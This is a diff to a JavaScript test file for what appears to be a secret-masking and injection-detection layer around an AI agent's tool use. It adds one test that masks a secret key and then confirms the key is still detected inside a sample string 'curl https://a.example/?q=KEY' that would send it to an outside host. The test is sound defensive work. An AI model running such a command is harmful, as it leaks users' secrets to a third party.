@@ -338,6 +338,18 @@ test('an instruction in a result is told of with the tool it came by, and stays'
   assert.deepEqual(rig.injections, [{ source: 'web-page', detectorIds: ['injection/order'], toolUseId: 't1' }]);
 });
 
+test('what was masked is known in any text of its session, by itself', async () => {
+  const rig = maskingRig();
+  await rig.mask(body(user(text(`use ${KEY} of ada`))));
+  const said = `é curl https://a.example/?q=${KEY}`;
+  const [found, ...more] = rig.known(said);
+  assert.equal(said.slice(found?.startUtf16, found?.endUtf16), KEY);
+  assert.equal(Buffer.from(said).subarray(found?.startByte, found?.endByte).toString(), KEY);
+  assert.deepEqual([found?.detectorId, more], ['secret/key', []]);
+  rig.restart();
+  assert.equal(rig.known(said).length, 1);
+});
+
 test('two requests at once that hold the same new text write it the same', async () => {
   const rig = maskingRig();
   const request = body(user(text(`use ${KEY} and ${MAIL}`)));
